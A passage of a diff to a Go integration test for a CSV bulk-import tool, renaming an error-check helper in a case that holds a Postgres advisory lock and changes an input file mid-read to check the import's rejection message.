 			_, err = lockConn.ExecContext(ctx, `SELECT pg_advisory_lock(hashtextextended('ccbulk:' || 'acme', 0))`)
-			must(t, err)
+			noErr(t, err)
 		},
 		during: func(t *testing.T, h *runningImport) {
 			ctx := context.Background()
 			deadline := time.Now().Add(30 * time.Second)
 			for {
 				var waiting bool
-				must(t, h.tn.db.Get(&waiting, `SELECT EXISTS (SELECT 1 FROM pg_stat_activity WHERE datname = current_database()
+				noErr(t, h.tn.db.Get(&waiting, `SELECT EXISTS (SELECT 1 FROM pg_stat_activity WHERE datname = current_database()
 					AND query LIKE 'SELECT pg_try_advisory_lock%')`))
 				if waiting {
 					break
@@ -699,12 +699,12 @@ func fileChangesWhileRead() badInput {
 				time.Sleep(20 * time.Millisecond)
 			}
 			f, err := os.OpenFile(filepath.Join(h.dir, "moving.csv"), os.O_APPEND|os.O_WRONLY, 0)
-			must(t, err)
+			noErr(t, err)
 			_, err = f.WriteString(good2)
-			must(t, err)
-			must(t, f.Close())
+			noErr(t, err)
+			noErr(t, f.Close())
 			_, err = lockConn.ExecContext(ctx, `SELECT pg_advisory_unlock(hashtextextended('ccbulk:' || 'acme', 0))`)
-			must(t, err)
+			noErr(t, err)
 		},
 		stderr: []string{`^ccbulk: moving\.csv: F-FORMAT: the file changed while it was being read \(it was replaced, or its size or modification time changed\); nothing was applied: import it again once it is complete\n$`},
 	}
